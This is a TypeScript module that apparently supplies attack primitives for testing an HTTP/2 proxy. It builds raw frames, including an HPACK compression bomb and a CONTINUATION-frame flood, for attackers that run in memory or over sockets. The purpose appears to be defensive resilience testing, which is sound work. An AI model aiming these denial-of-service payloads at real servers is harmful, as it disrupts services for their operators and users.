// An attack: waves of bytes, and their rhythm. Sans-IO, so that the same attackers run in memory
// (test/attacks) and over sockets (tools/attack.ts). spec/attacks.md has a row for each.

import { block, frame, headers, uint32 } from '../testbed/frames.js'

export type Role = 'client' | 'backend'

export interface Attack {
  /** The name in spec/attacks.md. Name and role together are the key of the row there. */
  readonly name: string
  readonly role: Role
  /**
   * Returns the bytes of this wave. For a backend, `streams` are the open streams that carried a request to
   * it, and `fresh` those that were opened since the last wave.
   */
  wave(at: number, streams: readonly number[], fresh: readonly number[]): Buffer
  /** The time between two waves in ms. Default: 2 over sockets; as fast as they are read in memory. */
  readonly everyMs?: number
  /** The most waves. */
  readonly waves?: number
  /** True: it sends only the waves: no preface, no SETTINGS, no answer. */
  readonly raw?: boolean
  /** Bytes to send at once instead of SETTINGS, before it closes. */
  readonly lastWords?: Buffer
  /** True: it closes without an answer when a request arrives. */
  readonly hangsUp?: boolean
  /** True: it leaves SETTINGS unacknowledged. */
  readonly rude?: boolean
  /** True: it stays after our FIN. Only a closed socket ends it then. */
  readonly stays?: boolean
  /** True: it reads nothing from its socket. */
  readonly deaf?: boolean
  /** True: it reads only once in each wave, and only what one write left waiting. */
  readonly sips?: boolean
  /** For an attacking backend: the request that its victims send. */
  readonly victim?: 'get' | 'upload'
  /** The limits, by room and name, that keep a test short. */
  readonly limits?: Readonly<Record<string, number>>
}

export const many = (count: number, make: (i: number) => Buffer): Buffer =>
  Buffer.concat(Array.from({ length: count }, (_, i) => make(i)))

export const setting = (id: number, value: number): Buffer =>
  Buffer.concat([Buffer.from([0, id]), uint32(value)])
export const settings = (...all: readonly (readonly [number, number])[]): Buffer =>
  frame(4, 0, 0, Buffer.concat(all.map(([id, value]) => setting(id, value))))
export const ping = (): Buffer => frame(6, 0, 0, Buffer.alloc(8))
export const reset = (id: number, code = 8): Buffer => frame(3, 0, id, uint32(code))
/** Opens the windows to the maximum, so that they delay no body. */
export const wide = (): Buffer => Buffer.concat([settings([4, 0x7fffffff]), widen(0, 0x7fff0000)])
export const widen = (id: number, by: number): Buffer => frame(8, 0, id, uint32(by))
export const data = (id: number, octets: number, flags = 0): Buffer =>
  frame(0, flags, id, Buffer.alloc(octets, 97))
export const goaway = (last: number): Buffer => frame(7, 0, 0, Buffer.concat([uint32(last), Buffer.alloc(4)]))

type Fields = readonly (readonly [string, string])[]

export const request = (path: string, method = 'GET', more: Fields = []): Fields => [
  [':method', method],
  [':scheme', 'http'],
  [':authority', 'a'],
  [':path', path],
  ...more,
]
/** A request that its backend never answers. */
export const quiet = (id: number, end = true): Buffer =>
  headers(id, request('/quiet', end ? 'GET' : 'POST'), end)
/** A request for a large body. */
export const large = (id: number): Buffer => headers(id, request('/large'))

export const response = (id: number, status = '200', more: Fields = [], end = false): Buffer =>
  headers(id, [[':status', status], ...more], end)

/** A literal with incremental indexing (RFC 7541 §6.2.1) of a large value, then references to it (§6.1). */
export const bomb = (fields: Fields, references: number): Buffer =>
  Buffer.concat([
    block(fields),
    // 0x40: the name is new; a value of 3,000 octets is 0x7f and the integer 3000 - 127
    Buffer.from([0x40, 1]),
    Buffer.from('x'),
    Buffer.from([0x7f, 0x80 | ((3000 - 127) & 0x7f), (3000 - 127) >> 7]),
    Buffer.alloc(3000, 97),
    Buffer.alloc(references, 0x80 | 62),
  ])

/** A field block in more CONTINUATIONs than are kept. */
export const oversized = (id: number, octets: Buffer): Buffer =>
  Buffer.concat([frame(1, 1, id, octets), many(40, () => frame(9, 0, id)), frame(9, 4, id)])

/** A field block over as many frames as it needs. */
export function blockFrames(id: number, octets: Buffer, endStream: boolean): Buffer {
  const size = 16_000
  const parts: Buffer[] = []
  for (let at = 0; at < octets.length; at += size) {
    const last = at + size >= octets.length
    const flags = (last ? 4 : 0) | (at === 0 && endStream ? 1 : 0)
    parts.push(frame(at === 0 ? 1 : 9, flags, id, octets.subarray(at, at + size)))
  }
  return Buffer.concat(parts)
}
